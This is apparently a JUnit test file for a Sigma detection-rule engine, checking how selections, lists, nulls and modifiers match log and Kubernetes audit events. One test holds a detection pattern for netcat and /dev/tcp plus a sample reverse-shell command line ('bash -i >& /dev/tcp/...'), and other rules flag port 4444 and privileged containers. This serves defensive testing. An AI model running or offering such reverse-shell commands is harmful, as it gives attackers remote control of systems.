package dev.picket.engine.sigma;

import org.junit.jupiter.api.Test;

import static dev.picket.engine.sigma.Sigma.matches;
import static org.assertj.core.api.Assertions.assertThat;

/** Rules specification, "Lists", "Maps", "General", "Special Field Values": how selections combine. */
class SelectionSemanticsTest {

    @Test
    void plainValuesAreCaseInsensitiveWholeValues() {
        String d = """
                selection:
                    Image: /usr/bin/Whoami
                condition: selection
                """;
        assertThat(matches(d, "{'Image': '/USR/BIN/WHOAMI'}")).isTrue();
        assertThat(matches(d, "{'Image': '/usr/bin/whoami2'}")).isFalse();
        assertThat(matches(d, "{'Image': 'x/usr/bin/whoami'}")).isFalse();
        assertThat(matches(d, "{'Other': '/usr/bin/whoami'}")).isFalse();
    }

    @Test
    void mapEntriesAreAnded() {
        String d = """
                selection:
                    verb: create
                    objectRef.resource: pods
                condition: selection
                """;
        assertThat(matches(d, "{'verb': 'create', 'objectRef': {'resource': 'pods'}}")).isTrue();
        assertThat(matches(d, "{'verb': 'create', 'objectRef': {'resource': 'secrets'}}")).isFalse();
        assertThat(matches(d, "{'verb': 'create'}")).isFalse();
    }

    @Test
    void listOfValuesIsOred() {
        String d = """
                selection:
                    verb:
                        - create
                        - update
                condition: selection
                """;
        assertThat(matches(d, "{'verb': 'update'}")).isTrue();
        assertThat(matches(d, "{'verb': 'delete'}")).isFalse();
    }

    @Test
    void listOfMapsIsOred() {
        String d = """
                selection:
                    - Image|endswith: /nc
                    - CommandLine|contains: '/dev/tcp/'
                condition: selection
                """;
        assertThat(matches(d, "{'Image': '/bin/nc'}")).isTrue();
        assertThat(matches(d, "{'CommandLine': 'bash -i >& /dev/tcp/10.0.0.1/4444'}")).isTrue();
        assertThat(matches(d, "{'Image': '/bin/ncat', 'CommandLine': 'ls'}")).isFalse();
    }

    @Test
    void anEventListMatchesWhenAnyElementMatches() {
        String d = """
                selection:
                    requestObject.spec.containers.securityContext.privileged: 'true'
                condition: selection
                """;
        assertThat(matches(d, """
                {'requestObject': {'spec': {'containers': [
                    {'securityContext': {'privileged': false}},
                    {'securityContext': {'privileged': true}}]}}}""")).isTrue();
        assertThat(matches(d, """
                {'requestObject': {'spec': {'containers': [
                    {'securityContext': {'privileged': false}}]}}}""")).isFalse();
    }

    @Test
    void numbersMatchNumbersAndTheirText() {
        String d = """
                selection:
                    DestinationPort: 4444
                condition: selection
                """;
        assertThat(matches(d, "{'DestinationPort': 4444}")).isTrue();
        assertThat(matches(d, "{'DestinationPort': '4444'}")).isTrue();
        assertThat(matches(d, "{'DestinationPort': 4444.0}")).isTrue();
        assertThat(matches(d, "{'DestinationPort': 44444}")).isFalse();
    }

    @Test
    void booleansMatchBooleansAndTheirText() {
        String d = """
                selection:
                    container.privileged: true
                condition: selection
                """;
        assertThat(matches(d, "{'container': {'privileged': true}}")).isTrue();
        assertThat(matches(d, "{'container': {'privileged': 'True'}}")).isTrue();
        assertThat(matches(d, "{'container': {'privileged': false}}")).isFalse();
    }

    @Test
    void emptyValueMatchesOnlyTheEmptyString() {
        String d = """
                selection:
                    User: ''
                condition: selection
                """;
        assertThat(matches(d, "{'User': ''}")).isTrue();
        assertThat(matches(d, "{'User': 'root'}")).isFalse();
        assertThat(matches(d, "{}")).isFalse();
    }

    @Test
    void nullMatchesAnAbsentOrNullField() {
        String d = """
                selection:
                    User: null
                condition: selection
                """;
        assertThat(matches(d, "{}")).isTrue();
        assertThat(matches(d, "{'User': null}")).isTrue();
        assertThat(matches(d, "{'User': ''}")).isFalse();
        assertThat(matches(d, "{'User': 'root'}")).isFalse();
    }

    @Test
    void notNullIsANegatedNullSelection() {
        String d = """
                selection:
                    Image: /bin/sh
                filter:
                    User: null
                condition: selection and not filter
                """;
        assertThat(matches(d, "{'Image': '/bin/sh', 'User': 'root'}")).isTrue();
        assertThat(matches(d, "{'Image': '/bin/sh'}")).isFalse();
    }

    @Test
    void dottedPathsReachNestedFieldsAndKeysWithDots() {
        String d = """
                selection:
                    annotations.authorization.k8s.io/decision: allow
                condition: selection
                """;
        assertThat(matches(d, "{'annotations': {'authorization.k8s.io/decision': 'allow'}}")).isTrue();
        assertThat(matches(d, "{'annotations': {'authorization.k8s.io/decision': 'forbid'}}")).isFalse();
    }

    @Test
    void objectsDoNotMatchStrings() {
        String d = """
                selection:
                    objectRef: pods
                condition: selection
                """;
        assertThat(matches(d, "{'objectRef': {'resource': 'pods'}}")).isFalse();
    }

    @Test
    void neqNullMeansPresentAndNotNull() {
        String d = """
                selection:
                    User|neq: null
                condition: selection
                """;
        assertThat(matches(d, "{'User': 'root'}")).isTrue();
        assertThat(matches(d, "{'User': ''}")).isTrue();
        assertThat(matches(d, "{'User': null}")).isFalse();
        assertThat(matches(d, "{}")).isFalse();
    }

    @Test
    void neqCountsAnAbsentFieldAsDifferent() {
        String d = """
                selection:
                    User|neq: root
                condition: selection
                """;
        assertThat(matches(d, "{}")).isTrue();
        assertThat(matches(d, "{'User': 'root'}")).isFalse();
    }

    @Test
    void existsLooksIntoLists() {
        String d = """
                selection:
                    spec.volumes.hostPath|exists: true
                condition: selection
                """;
        assertThat(matches(d, "{'spec': {'volumes': [{'emptyDir': {}}, {'hostPath': {'path': '/'}}]}}")).isTrue();
        assertThat(matches(d, "{'spec': {'volumes': [{'emptyDir': {}}]}}")).isFalse();
    }

    @Test
    void listsOfMapsInsideConditions() {
        String d = """
                selection:
                    - verb: create
                      objectRef.resource: pods
                    - verb: patch
                      objectRef.resource: deployments
                condition: selection
                """;
        assertThat(matches(d, "{'verb': 'patch', 'objectRef': {'resource': 'deployments'}}")).isTrue();
        assertThat(matches(d, "{'verb': 'patch', 'objectRef': {'resource': 'pods'}}")).isFalse();
    }
}
